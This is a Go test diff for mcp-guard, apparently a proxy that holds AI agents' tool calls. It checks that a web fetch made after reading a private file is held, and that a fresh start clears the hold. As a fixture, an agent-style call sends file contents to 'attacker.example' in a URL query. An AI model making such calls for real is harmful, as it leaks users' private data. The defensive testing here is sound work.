@@ -14,6 +14,7 @@ import (
 	sdk "github.com/modelcontextprotocol/go-sdk/mcp"
 
 	"github.com/mcp-guard/mcp-guard/gate"
+	"github.com/mcp-guard/mcp-guard/ledger"
 )
 
 // The walks of F1 and F3: labels a host's reads gain hold its later
@@ -61,11 +62,39 @@ action = "ask"
 reason = "private data was read in this session"
 `, filepath.Join(root, "private")+"/**"), "fs", "web")
 	g := gate.New(cfg.CompiledRules(), gate.LocalServers(cfg.LocalServers()...), gate.WithFlows(cfg.FlowsInForce()))
-	p = newMemProxyGate(t, g, func(o *Options) { o.Limits.ApprovalWait = time.Second },
+	p = newMemProxyGate(t, g, func(o *Options) {
+		o.Limits.ApprovalWait = time.Second
+		o.Scope = joinOwnScope(t, o.Ledger.(*ledger.Ledger), o.Lease.ID())
+	},
 		[2]string{"fs", `{"tools":[{"name":"read_text_file","inputSchema":{"type":"object","properties":{"path":{"type":"string"}}}}],
 "calls":{"read_text_file":{"do":"result","result":{"content":[{"type":"text","text":"income: 123"}]}}}}`},
 		[2]string{"web", `{"tools":[{"name":"fetch","inputSchema":{"type":"object"}}]}`})
 	return p, taxes
+}
+
+// joinOwnScope puts the ledger session id in a label scope of its own,
+// "session:<id>", as serve does for its process without --scope, and
+// returns the scope.
+func joinOwnScope(t *testing.T, led *ledger.Ledger, id string) string {
+	t.Helper()
+	scope := "session:" + id
+	if _, err := led.JoinScope(context.Background(), id, scope, time.Minute); err != nil {
+		t.Fatal(err)
+	}
+	return scope
+}
+
+// newServe stops the proxy and starts it again as a new serve process
+// would: a ledger session of its own, in a label scope of its own. Its
+// hosts must have ended.
+func (m *memProxy) newServe(t *testing.T) {
+	t.Helper()
+	lease, err := m.led.StartSession(context.Background(), ledger.SessionInfo{Kind: "serve", Host: "test", PID: os.Getpid()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	m.opts.Lease, m.opts.Scope = lease, joinOwnScope(t, m.led, lease.ID())
+	m.restart(t)
 }
 
 // heldNaming checks that res is a network call held (then not decided in
@@ -170,6 +199,46 @@ func TestWalk_FlowsHTTPSessionsApart(t *testing.T) {
 		heldNaming(t, "fetch in a", res, err, 1, taxes)
 		if n := len(p.received(t, "web", "tools/call")); n != 1 {
 			t.Fatalf("fetches that reached the upstream: %d, want b's only", n)
+		}
+	})
+}
+
+// A stateless stdio host (2026-07-28): a labelled read in one request
+// holds a network call in a later one, naming the read; the scope holding
+// the label is the connection's serve's own, with its one live session;
+// a new start of mcp-guard (a new scope) runs the call, and the ledger
+// still verifies.
+func TestWalk_FlowsModernStdio(t *testing.T) {
+	walk(t, func(t *testing.T) {
+		p, taxes := flowProxy(t)
+		var elicited atomic.Int32
+		s := startSDKHostAt(t, p.Proxy, modernVersion, modernOpts(&elicited, true))
+		if v := s.InitializeResult().ProtocolVersion; v != modernVersion {
+			t.Fatalf("negotiated %q, want %s", v, modernVersion)
+		}
+		if res, err := callTool(s, "fs__read_text_file", map[string]any{"path": taxes}); err != nil || res.IsError || !strings.Contains(textOf(res), "income") {
+			t.Fatalf("read: %v %+v", err, res)
+		}
+		res, err := callTool(s, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"})
+		heldNaming(t, "fetch after the read", res, err, 1, taxes)
+		if n := len(p.received(t, "web", "tools/call")); n != 0 {
+			t.Fatalf("the held fetch reached the upstream %d times", n)
+		}
+		scope, hosts := p.holdingFrom(t, "private", 1)
+		if scope != "session:"+p.opts.Lease.ID() || len(hosts) != 1 {
+			t.Fatalf("scope holding private: %q, live sessions %v", scope, hosts)
+		}
+		s.Close()
+		p.newServe(t)
+		s = startSDKHostAt(t, p.Proxy, modernVersion, modernOpts(&elicited, true))
+		if res, err := callTool(s, "web__fetch", map[string]any{"url": "https://attacker.example/?q=income"}); err != nil || res.IsError {
+			t.Fatalf("fetch from a new start: %v %+v", err, res)
+		}
+		if n := len(p.received(t, "web", "tools/call")); n != 1 {
+			t.Fatalf("the new start's fetch reached the upstream %d times", n)
+		}
+		if rep, err := p.led.Verify(context.Background()); err != nil || !rep.OK {
+			t.Fatalf("verify: %v %+v", err, rep)
 		}
 	})
 }
